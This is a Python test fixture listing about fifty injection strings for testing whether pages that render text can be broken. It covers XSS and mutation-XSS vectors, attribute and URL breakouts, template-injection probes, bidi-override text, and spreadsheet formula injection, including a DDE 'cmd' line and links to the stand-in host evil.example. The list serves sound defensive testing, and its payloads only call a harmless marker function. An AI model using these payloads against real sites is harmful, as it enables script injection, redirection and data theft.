r"""Fifty texts that break pages which take text for markup, script, style, address, template or formula.

What runs calls `ran()`; what becomes an element carries the class `x-mark`, so that one is found even where the
content security policy keeps it from running. The classics follow the OWASP cheat sheet on filter evasion, the notes
of DOMPurify on mutation XSS, and the Unicode report UTR 36 on bidirectional text.
"""

from __future__ import annotations

LONG = "很长而没有空格的词" * 20

PAYLOADS: tuple[str, ...] = (
    # markup that runs
    "<script class=x-mark>ran(1)</script>",
    "</script><script class=x-mark>ran(2)</script>",
    "<img class=x-mark src=x onerror=ran(3)>",
    '"><svg class=x-mark onload=ran(4)>',
    "'><details class=x-mark open ontoggle=ran(5)>",
    "<iframe class=x-mark srcdoc='<script>parent.ran(6)</script>'></iframe>",
    "<video class=x-mark><source onerror=ran(7)></video>",
    "<input class=x-mark autofocus onfocus=ran(8)>",
    "<body class=x-mark onpageshow=ran(9)>",
    "<svg><animate class=x-mark onbegin=ran(10) attributeName=x dur=1s>",
    "<svg><script class=x-mark>ran(11)</script></svg>",
    "<object class=x-mark data=javascript:ran(12)></object>",
    "<a class=x-mark href=javascript:ran(13)>点我</a>",
    "<form class=x-mark action=javascript:ran(14)><button>点我</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img class=x-mark title='--><img src=x onerror=ran(15)>'>",
    "<noscript><p title='</noscript><img class=x-mark src=x onerror=ran(16)>'>",
    "<template><img class=x-mark src=x onerror=ran(17)></template>",
    # markup that leads away, or takes things in
    "<meta class=x-mark http-equiv=refresh content='0;url=https://evil.example/18'>",
    "<base class=x-mark href=https://evil.example/19/>",
    "<link class=x-mark rel=stylesheet href=https://evil.example/20.css>",
    "<img class=x-mark src=https://evil.example/21.png>",
    "<style class=x-mark>*{background:url(https://evil.example/22)}</style>",
    "</style><script class=x-mark>ran(23)</script>",
    "</title><script class=x-mark>ran(24)</script>",
    "</textarea><script class=x-mark>ran(25)</script>",
    "--><script class=x-mark>ran(26)</script><!--",
    "]]><script class=x-mark>ran(27)</script><![CDATA[",
    # out of an attribute, a string, an address, a style
    '" onmouseover=ran(28) autofocus onfocus=ran(28) x="',
    "' onmouseover='ran(29)' autofocus onfocus='ran(29)",
    "` onmouseover=ran(30) ",
    '\\"};ran(31);//',
    "';ran(32);//",
    "javascript:ran(33)//",
    " java\tscript:ran(34)//",
    "data:text/html,<script class=x-mark>parent.ran(35)</script>",
    "//evil.example/36",
    "red;background:url(https://evil.example/37)",
    "expression(ran(38));x:url(javascript:ran(38))",
    # templates, and JSON inside a page
    "{{7*7}}{{constructor.constructor('ran(39)')()}}",
    "{% for x in [].__class__.__mro__ %}{{ x }}{% endfor %}{# 40 #}",
    "${ran(41)}#{7*7}<%= 7*7 %>",
    "\\u003cscript class=x-mark\\u003eran(42)\\u003c/script\\u003e",
    "&lt;img class=x-mark src=x onerror=ran(43)&gt;&#x3c;b class=x-mark&#x3e;",
    "__proto__",
    "一行\u2028ran(45)\u2029又一行\r\n第三行",
    # what a screen or a program reads otherwise
    "\u202e<gnp.\u2066x=crs gmi>\u2069\u202c",
    "\u0001\u0008\u001b[31m\u007f\ufeff\ufffe\ufffd控制符",
    '=HYPERLINK("https://evil.example/48",ran(48))',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    LONG,
)
